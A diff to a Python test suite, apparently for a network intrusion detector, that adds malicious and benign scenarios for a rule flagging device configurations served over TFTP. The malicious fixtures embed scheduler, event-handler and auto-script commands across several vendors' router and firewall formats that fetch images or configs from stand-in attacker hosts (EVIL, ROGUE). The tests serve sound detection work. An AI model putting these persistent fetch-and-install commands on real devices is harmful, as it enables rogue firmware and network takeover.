@@ -70,7 +70,7 @@ AUTOINSTALL = f"""\
     "malicious",
     raises=[
         ("BW08", rule, BOOT_SERVER, f"10.0.1.{last}")
-        for last, rule in ((11, 6), (12, 0), (14, 6), (15, 1542007790), (16, 0))
+        for last, rule in ((11, 6), (12, 0), (13, 1542007804), (14, 6), (15, 1542007790), (16, 0))
     ],
     site=HQ,
     with_site=Expect(
@@ -101,9 +101,13 @@ def bw08_other_vendors(wire: Wire) -> None:
         tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)
 
 
+GIVES = 1542007803
+
+
 @scenario(
     "BW08",
     "malicious",
+    raises=[("BW08", GIVES, BOOT_SERVER, f"10.0.1.{last}") for last in (21, 23)],
     site=HQ,
     with_site=Expect((served(21, "execute.txt"), served(22, "/ztp/provision.py"), served(23, "edge23-confg"))),
 )
@@ -126,6 +130,104 @@ configurep(["boot system flash:evil.bin", "end"])
         f' action 2.0 cli command "copy {EVIL} running-config" pattern "confirm"',
     )
     tftp.read(wire, "10.0.1.23", BOOT_SERVER, "edge23-confg", config("edge23", lines), client_port=50023)
+
+
+def routeros(*lines: str) -> bytes:
+    """An export of RouterOS, which writes a menu's path in a line of its own."""
+    return "\n".join(("# nov/26/2025 08:00:00 by RouterOS 6.48.6", *lines, "")).encode()
+
+
+def fortios(script: str) -> bytes:
+    """A configuration of FortiOS with a script that it runs itself."""
+    return f"""\
+#config-version=FGT60F-6.4.8-FW-build1914:opmode=0:vdom=0:user=admin
+config system auto-script
+    edit "up"
+        set interval 60
+        set script "{script}"
+    next
+end
+""".encode()
+
+
+NEXUS = b"!Command: show running-config\nversion 9.3(5)\nhostname n9k1\n"
+NESTED = (
+    (71, "edge71-confg", config("edge71", ("kron policy-list UP", f" cli copy {EVIL} flash:evil.bin"))),
+    (
+        72,
+        "leaf72-confg",
+        b"! Command: show run\n! device: leaf72 (DCS-7050, EOS-4.22.1F)\n!\nevent-handler UP\n"
+        b" trigger on-boot\n" + f" action bash FastCli -p 15 -c 'copy {EVIL} flash:'\n!\nend\n".encode(),
+    ),
+    (73, "n9k1.cfg", NEXUS + f"scheduler job name UP\n  copy {EVIL} bootflash:\nend-job\n".encode()),
+    (74, "r1.rsc", routeros("/system scheduler", f'add interval=1d name=up on-event="/tool fetch url={EVIL}"')),
+    (
+        75,
+        "ex75.conf",
+        b"set version 21.4R1.12\nset system host-name ex75\nset event-options policy UP then "
+        b'execute-commands commands "request system software add ' + f'{EVIL}"\n'.encode(),
+    ),
+    (76, "bof.cfg", b"# TiMOS-B-20.10.R1 both/x86_64 Nokia 7750 SR\n    primary-image    " + EVIL.encode() + b"\n"),
+    (
+        77,
+        "8325.cfg",
+        b"!\n!Version ArubaOS-CX GL.10.09.0001\n!export-password: default\njob UP\n"
+        b"    10 cli copy " + f"{EVIL} primary\n".encode(),
+    ),
+)
+ZEEKS = (
+    (78, "fw78.conf", fortios(f"execute restore image tftp evil.bin {ROGUE}")),
+    (
+        79,
+        "msr79.cfg",
+        b"#\n version 7.1.070, Release 6357\n#\n sysname msr79\n#\nscheduler job up\n"
+        + f" command 1 tftp {ROGUE} get evil.bin\n#\nreturn\n".encode(),
+    ),
+)
+"""Suricata looks for commands that name their source by URL."""
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    raises=[("BW08", GIVES, BOOT_SERVER, f"10.0.1.{last}") for last, _, _ in NESTED],
+    site=HQ,
+    with_site=Expect(tuple(served(last, name) for last, name, _ in (*NESTED, *ZEEKS))),
+)
+def bw08_commands_given(wire: Wire) -> None:
+    """Schedulers, event handlers and scripts that a configuration holds fetch what nobody approved; SR OS' BOF."""
+    for last, name, text in (*NESTED, *ZEEKS):
+        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)
+
+
+@scenario("BW08", "benign", site=HQ, with_site=Expect())
+def bw08_commands_that_boot_nothing(wire: Wire) -> None:
+    """Schedulers that save and show, remarks, comments and notes that speak of orders, and scripts of hosts."""
+    for last, (name, text) in enumerate(
+        (
+            ("edge81-confg", config("edge81", ("kron policy-list P", f" cli copy running-config {SAID}"))),
+            (
+                "edge82-confg",
+                config("edge82", (f"! copy {EVIL} flash:", "interface Gi0/1", f" description copy {EVIL}")),
+            ),
+            (
+                "r83.rsc",
+                routeros(
+                    "/system note", f'set note="never /tool fetch url={EVIL}"', "/routing ospf", f"add source={ROGUE}"
+                ),
+            ),
+            (
+                "fw84.conf",
+                fortios("get system status") + f'set comment "execute restore image tftp x {ROGUE}"\n'.encode(),
+            ),
+            ("play.yml", f"- name: up\n  ios_command:\n    commands:\n      - copy {EVIL} flash:\n".encode()),
+            ("backup.sh", f"#!/bin/sh\n# copy {EVIL} flash:\necho copy {EVIL} flash:\ninstall -m 644 a b\n".encode()),
+            ("ks.cfg", f"install\nurl --url=http://{ROGUE}/os\n%post\nwget http://{ROGUE}/x\n%end\n".encode()),
+            ("y000000000000.cfg", f"#!version:1.0.0.1\nauto_provision.server.url = tftp://{ROGUE}/\n".encode()),
+        ),
+        81,
+    ):
+        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)
 
 
 @scenario(
